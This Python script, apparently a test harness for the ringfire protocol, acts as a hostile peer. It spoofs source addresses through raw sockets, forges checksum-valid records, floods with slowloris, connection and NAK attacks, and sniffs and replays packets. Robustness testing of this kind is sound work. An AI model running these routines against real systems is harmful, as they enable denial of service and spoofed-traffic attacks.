#!/usr/bin/env python3
"""attacker.py — a hostile peer for the lab: sends what a stranger can send
at a ringfire source and its mirrors, written from proto/PROTOCOL.md alone.
Every subcommand prints one line, "attacker: <what> <count>", and exits 0
when it could do what it set out to (whatever ringfire did about it).

  attacker.py session SOURCE:PORT                 HELLO, print the session byte and token
  attacker.py udp-forge DST:PORT SESSION [SRC]    forged GAP, HEARTBEAT, DATA (far future), NAK, kind 42
  attacker.py spoof SRC:PORT DST:PORT SESSION SEQ DATA from SRC (a raw socket) at SEQ
  attacker.py spoof-sweep SRC:PORT DST:PORT SEQ N  for every session byte 1-255, N self-checking
                                                  records from SRC at SEQ.. (the filler a marker)
  attacker.py junk DST:PORT N [SRC]               N random datagrams
  attacker.py tcp-oversized SOURCE:PORT N         N connections that declare a 64 MiB body
  attacker.py tcp-slowloris SOURCE:PORT N SECS    N half-HELLOs, held SECS
  attacker.py tcp-flood SOURCE:PORT N SECS        N idle connections, held SECS
  attacker.py tcp-junk SOURCE:PORT N              N connections of random bytes
  attacker.py nak-flood SOURCE:PORT SECS          a real session NAKing all it can, never reading
  attacker.py token SOURCE:PORT FILE              HELLO for unicast, write the token to FILE, hold
  attacker.py punch DST:PORT TOKEN [SECS]         PUNCH bearing TOKEN, count what comes back
  attacker.py listen IP:PORT SECS                 count datagrams that arrive (expect none)
  attacker.py sniff-punch IFACE PORT FILE         capture one PUNCH to PORT on IFACE, save it
  attacker.py replay FILE DST:PORT [SRC_IP]       send a captured datagram again
"""
import os
import random
import socket
import struct
import sys
import time

HELLO, GEOMETRY, DATA, GAP, HEARTBEAT, NAK, MULTICAST, PUNCH = 1, 2, 3, 4, 5, 6, 7, 8
MAGIC = 0x524D4652


def ep(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def header(kind, flags, count, length, seq):
    return struct.pack("<BBHIQ", kind, flags, count, length, seq)


def hello(flags=0, first=0):
    return header(HELLO, 0, 0, 16, first) + struct.pack("<IHHQ", MAGIC, 1, flags, 0)


def read_frame(s):
    h = b""
    while len(h) < 16:
        b = s.recv(16 - len(h))
        if not b:
            raise EOFError
        h += b
    kind, flags, count, length, seq = struct.unpack("<BBHIQ", h)
    body = b""
    while len(body) < length:
        b = s.recv(length - len(body))
        if not b:
            raise EOFError
        body += b
    return kind, flags, count, seq, body


def handshake(src, flags=0, rcvbuf=None):
    """HELLO; returns the socket, GEOMETRY (capacity, slot size, first seq) and MULTICAST fields."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)  # before connect: a small window
    s.settimeout(5)
    s.connect(ep(src))
    s.sendall(hello(flags, first=0xFFFFFFFFFFFFFFFF))
    kind, _, _, first, body = read_frame(s)
    if kind != GEOMETRY:
        raise SystemExit(f"attacker: expected GEOMETRY, got kind {kind}")
    capacity, slot = struct.unpack_from("<QI", body, 0)
    kind, _, _, _, body = read_frame(s)
    group = struct.unpack_from(">I", body, 0)[0]
    port, mtu, ttl, session, features, token = struct.unpack_from("<HHBBHQ", body, 4)
    tag = struct.unpack_from("<Q", body, 24)[0] if len(body) >= 32 else 0
    return s, dict(capacity=capacity, slot=slot, first=first, group=group, port=port, session=session,
                   token=token, features=features, tag=tag)


def udp_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return s


def cmd_session(src):
    s, g = handshake(src)
    print(f"attacker: session {g['session']} token {g['token']} capacity {g['capacity']} first {g['first']} "
          f"group {socket.inet_ntoa(struct.pack('>I', g['group']))} port {g['port']} tag {g['tag']}")


def sender(src):
    """sender(None) sends from this host; sender("IP:PORT") spoofs that address (a raw socket)."""
    if src is None:
        s = udp_socket()
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
        return lambda payload, to: s.sendto(payload, to)
    ip, port = ep(src)
    return lambda payload, to: raw_udp(ip, port, to[0], to[1], payload)


def cmd_udp_forge(dst, session, src=None):
    """GAP (TCP-only), a far-future HEARTBEAT and DATA, a NAK, a future kind; from SRC if given."""
    session = int(session)
    host, port = ep(dst)
    send = sender(src)
    far = 0xFFFF_FFFF_0000_0000
    sent = 0
    for flags in (0, session, session ^ 0x55):
        send(header(GAP, flags, 0, 0, far), (host, port))
        send(header(HEARTBEAT, flags, 0, 0, far), (host, port))
        send(header(DATA, flags, 1, 64, far) + bytes(64), (host, port))
        send(header(NAK, flags, 0, 8, 1) + struct.pack("<Q", 2), (host, port))
        send(header(42, flags, 0, 0, 1), (host, port))
        sent += 5
    print(f"attacker: forged {sent}")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def raw_udp(src_ip, src_port, dst_ip, dst_port, payload):
    udp = struct.pack("!HHHH", src_port, dst_port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 1, 17, 0,
                     socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.sendto(ip + udp, (dst_ip, 0))


def cmd_spoof(src, dst, session, seq, slot="64"):
    """DATA that claims to come from the source (SRC = its IP:PORT): right session byte."""
    src_ip, src_port = ep(src)
    host, port = ep(dst)
    session, seq, slot = int(session), int(seq), int(slot)
    n = 0
    for i in range(50):
        body = bytes([0xAB]) * slot
        raw_udp(src_ip, src_port, host, port, header(DATA, session, 1, slot, seq + i) + body)
        n += 1
    print(f"attacker: spoofed {n}")


MASK64 = (1 << 64) - 1
P1, P2, P3, P4, P5 = (0x9E3779B185EBCA87, 0xC2B2AE3D27D4EB4F, 0x165667B19E3779F9, 0x85EBCA77C2B2AE63,
                      0x27D4EB2F165667C5)


def rotl(x, r):
    return ((x << r) | (x >> (64 - r))) & MASK64


def xxh64(data, seed=0):
    """XXH64 (the self-checking record's checksum, PROTOCOL.md §1.12), in Python: forged
    records a `tail` would take for real ones."""
    def rnd(acc, lane):
        return (rotl((acc + lane * P2) & MASK64, 31) * P1) & MASK64
    n, i = len(data), 0
    if n >= 32:
        v = [(seed + P1 + P2) & MASK64, (seed + P2) & MASK64, seed, (seed - P1) & MASK64]
        while i + 32 <= n:
            for k in range(4):
                v[k] = rnd(v[k], struct.unpack_from("<Q", data, i + 8 * k)[0])
            i += 32
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & MASK64
        for k in range(4):
            h = ((h ^ rnd(0, v[k])) * P1 + P4) & MASK64
    else:
        h = (seed + P5) & MASK64
    h = (h + n) & MASK64
    while i + 8 <= n:
        h = (rotl(h ^ rnd(0, struct.unpack_from("<Q", data, i)[0]), 27) * P1 + P4) & MASK64
        i += 8
    if i + 4 <= n:
        h = (rotl(h ^ (struct.unpack_from("<I", data, i)[0] * P1) & MASK64, 23) * P2 + P3) & MASK64
        i += 4
    while i < n:
        h = (rotl(h ^ (data[i] * P5) & MASK64, 11) * P1) & MASK64
        i += 1
    h ^= h >> 33
    h = (h * P2) & MASK64
    h ^= h >> 29
    h = (h * P3) & MASK64
    return h ^ (h >> 32)


MARKER = b"RFSPOOF!"


def forged_record(seq, slot):
    """A record that passes `tail`'s self-check, its filler the marker (not the real filler)."""
    filler = (MARKER * (slot // len(MARKER) + 1))[:slot - 24]
    head = struct.pack("<QQ", seq, time.monotonic_ns())
    return head + struct.pack("<Q", xxh64(filler, xxh64(head))) + filler


def cmd_spoof_sweep(src, dst, seq, n, slot="64"):
    """The blind spoofer: it writes the source's address (and data port) into raw IPv4 headers
    and sends N forged records at SEQ.. under every session byte, not knowing which is live."""
    src_ip, src_port = ep(src)
    host, port = ep(dst)
    seq, n, slot = int(seq), int(n), int(slot)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sent = 0
    for session in range(1, 256):
        for i in range(n):
            payload = header(DATA, session, 1, slot, seq + i) + forged_record(seq + i, slot)
            udp = struct.pack("!HHHH", src_port, port, 8 + len(payload), 0) + payload
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 1, 17, 0,
                             socket.inet_aton(src_ip), socket.inet_aton(host))
            ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
            s.sendto(ip + udp, (host, 0))
            sent += 1
        time.sleep(0.002)  # paced: the mirror's socket buffer takes them all
    print(f"attacker: spoofed {sent}")


def cmd_junk(dst, n, src=None):
    """N random datagrams (the first few malformed headers for sure); from SRC if given."""
    host, port = ep(dst)
    send = sender(src)
    rnd = random.Random(7)
    for i in range(int(n)):
        if i < 3:
            d = bytes(16 + i)  # kind 0: malformed at any receiver
        else:
            d = bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 1400)))
        send(d, (host, port))
    print(f"attacker: junk {n}")


def cmd_tcp_oversized(src, n):
    conns = []
    for _ in range(int(n)):
        s = socket.create_connection(ep(src), timeout=5)
        s.sendall(header(HELLO, 0, 0, 64 << 20, 0))  # a 64 MiB HELLO body that never comes
        conns.append(s)
    time.sleep(1)
    refused = 0
    for s in conns:
        try:
            s.settimeout(2)
            kind = s.recv(16)[:1]
            refused += kind == bytes([13]) or kind == b""
        except (socket.timeout, ConnectionError):
            pass
        s.close()
    print(f"attacker: oversized {n} refused {refused}")


def cmd_tcp_slowloris(src, n, secs):
    conns = [socket.create_connection(ep(src), timeout=5) for _ in range(int(n))]
    for s in conns:
        s.sendall(hello()[:10])
    time.sleep(float(secs))
    for s in conns:
        s.close()
    print(f"attacker: slowloris {n}")


def cmd_tcp_flood(src, n, secs):
    conns = []
    for _ in range(int(n)):
        try:
            conns.append(socket.create_connection(ep(src), timeout=5))
        except OSError:
            break
    time.sleep(float(secs))
    for s in conns:
        s.close()
    print(f"attacker: flood {len(conns)}")


def cmd_tcp_junk(src, n):
    rnd = random.Random(11)
    for i in range(int(n)):
        try:
            s = socket.create_connection(ep(src), timeout=5)
            if i == 0:
                s.sendall(bytes(16))  # kind 0: malformed for sure
                time.sleep(0.2)
            else:
                s.sendall(bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 4000))))
            s.close()
        except OSError:
            pass
    print(f"attacker: tcp-junk {n}")


def cmd_nak_flood(src, secs):
    """A session that NAKs everything the source holds, as fast as it can, and never reads."""
    s, g = handshake(src, flags=1 << 4, rcvbuf=4096)  # multi-range NAKs
    s.settimeout(1)
    end = time.time() + float(secs)
    sent = 0
    first = g["first"]
    step = max(1, g["capacity"] // 64)
    ranges = [(first + k * step, first + k * step + step - 1) for k in range(64)]
    body = struct.pack("<Q", ranges[0][1]) + b"".join(struct.pack("<QQ", a, b) for a, b in ranges[1:])
    nak = header(NAK, 1, 0, len(body), ranges[0][0]) + body  # flags 1: repeats, over TCP
    cut = False
    while time.time() < end and not cut:
        try:
            s.sendall(nak)
            sent += 1
        except socket.timeout:
            pass  # the source reads at its own pace
        except OSError:
            cut = True  # what a source should do to a peer that never reads
    print(f"attacker: nak-flood {sent}{' cut' if cut else ''}")


def cmd_token(src, path):
    s, g = handshake(src, flags=3)  # unicast capable, prefers it
    with open(path, "w") as f:
        f.write(f"{g['token']} {g['port']}\n")
    print(f"attacker: token {g['token']}")
    time.sleep(30)


def count_back(s, secs):
    """Datagrams that come back to socket s within secs: (DATA or anything else, PROBEs).
    A PROBE is the source asking whether this address is the mirror's: not a redirect."""
    s.settimeout(0.2)
    end = time.time() + secs
    data = probes = 0
    while time.time() < end:
        try:
            d = s.recv(65536)
            if d[:1] == bytes([14]):
                probes += 1
            else:
                data += 1
        except socket.timeout:
            pass
    return data, probes


def cmd_punch(dst, token, secs="2"):
    """PUNCH bearing TOKEN 20 times, then count what arrives on the same socket."""
    host, port = ep(dst)
    s = udp_socket()
    for _ in range(20):
        s.sendto(header(PUNCH, 0, 0, 0, int(token)), (host, port))
        time.sleep(0.05)
    data, probes = count_back(s, float(secs))
    print(f"attacker: punched 20, probes {probes}, received {data}")


def cmd_listen(at, secs):
    host, port = ep(at)
    s = udp_socket()
    s.bind((host, port))
    s.settimeout(0.2)
    end = time.time() + float(secs)
    got = 0
    while time.time() < end:
        try:
            s.recv(65536)
            got += 1
        except socket.timeout:
            pass
    print(f"attacker: received {got}")


def cmd_sniff_punch(iface, port, path):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    s.bind((iface, 0))
    s.settimeout(10)
    end = time.time() + 10
    while time.time() < end:
        frame = s.recv(65536)
        if len(frame) < 14 + 20 + 8 or frame[12:14] != b"\x08\x00" or frame[14 + 9] != 17:
            continue
        ihl = (frame[14] & 15) * 4
        udp = frame[14 + ihl:]
        if struct.unpack("!H", udp[2:4])[0] != int(port) or len(udp) < 8 + 16 or udp[8] != PUNCH:
            continue
        src = socket.inet_ntoa(frame[14 + 12:14 + 16])
        sport = struct.unpack("!H", udp[0:2])[0]
        with open(path, "wb") as f:
            f.write(udp[8:])
        with open(path + ".from", "w") as f:
            f.write(f"{src} {sport}\n")
        print(f"attacker: captured a PUNCH from {src}:{sport}")
        return
    raise SystemExit("attacker: no PUNCH seen")


def cmd_replay(path, dst, src_ip=None, src_port=None):
    """Send a captured datagram again, 10 times: from this host (then count
    what comes back to it for 1 s), or spoofed from SRC_IP:SRC_PORT."""
    host, port = ep(dst)
    payload = open(path, "rb").read()
    s = udp_socket()
    for _ in range(10):
        if src_ip:
            raw_udp(src_ip, int(src_port), host, port, payload)
        else:
            s.sendto(payload, (host, port))
        time.sleep(0.02)
    data, probes = (0, 0) if src_ip else count_back(s, 1.0)
    print(f"attacker: replayed 10, probes {probes}, received {data}")


COMMANDS = {
    "session": cmd_session, "udp-forge": cmd_udp_forge, "spoof": cmd_spoof, "junk": cmd_junk,
    "tcp-oversized": cmd_tcp_oversized, "tcp-slowloris": cmd_tcp_slowloris, "tcp-flood": cmd_tcp_flood,
    "tcp-junk": cmd_tcp_junk, "nak-flood": cmd_nak_flood, "token": cmd_token, "punch": cmd_punch,
    "spoof-sweep": cmd_spoof_sweep, "listen": cmd_listen, "sniff-punch": cmd_sniff_punch, "replay": cmd_replay,
}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in COMMANDS:
        sys.exit(__doc__)
    COMMANDS[sys.argv[1]](*sys.argv[2:])
